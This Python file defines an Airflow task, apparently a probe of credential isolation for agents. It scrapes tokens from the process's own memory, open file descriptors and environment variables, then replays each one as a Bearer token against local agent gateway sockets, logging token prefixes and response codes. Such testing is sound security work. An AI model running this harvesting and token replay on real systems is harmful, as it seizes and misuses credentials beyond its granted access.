"""A task that looks for secrets wherever it can read, and tries what it finds on its agent's gateway."""

from __future__ import annotations

import os
import re
from contextlib import suppress
from pathlib import Path

import httpx
import site_journal
from airflow.sdk import DAG, task

_SECRET = re.compile(rb"tw_(?:local|session|agent)_[A-Za-z0-9_-]{20,}")


def _of_memory(pid: str = "self") -> set[str]:
    found: set[str] = set()
    maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            if not rights.startswith("rw"):
                continue
            start, end = (int(part, 16) for part in place.split("-"))
            with suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                found |= {one.decode() for one in _SECRET.findall(memory.read(end - start))}
    return found


def _of_descriptors() -> set[str]:
    found: set[str] = set()
    for fd in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{fd}")
            if target.startswith("/") and Path(target).is_file():
                found |= {one.decode() for one in _SECRET.findall(Path(target).read_bytes())}
    return found


def _gateways() -> set[str]:
    lines = Path("/proc/net/unix").read_text().splitlines()
    mine = str(Path(os.environ["SITE_JOURNAL"]).parent)  # other agents may run on the machine
    return {parts[7] for line in lines if len(parts := line.split()) > 7 and parts[7].startswith(mine)}


def _tried(gateway: str, secret: str) -> dict[str, int]:
    transport = httpx.HTTPTransport(uds=gateway)
    with httpx.Client(transport=transport, base_url="http://gateway", timeout=10, trust_env=False) as client:
        headers = {"Authorization": f"Bearer {secret}"}
        return {
            path: client.post(path, json={}, headers=headers).status_code
            for path in ("/dags/claim", "/dags/report", "/triggers/sync")
        }


with DAG("searching", schedule=None):

    @task(queue="search")
    def search():
        environment = " ".join(f"{name}={value}" for name, value in os.environ.items()).encode()
        found = _of_memory() | _of_descriptors() | {one.decode() for one in _SECRET.findall(environment)}
        for gateway in _gateways():
            for secret in found:
                with suppress(httpx.TransportError):
                    site_journal.write("tried", kind=secret[:9], answers=_tried(gateway, secret))
        site_journal.write("searched", found=len(found), kinds=sorted({one[:9] for one in found}))

    search()
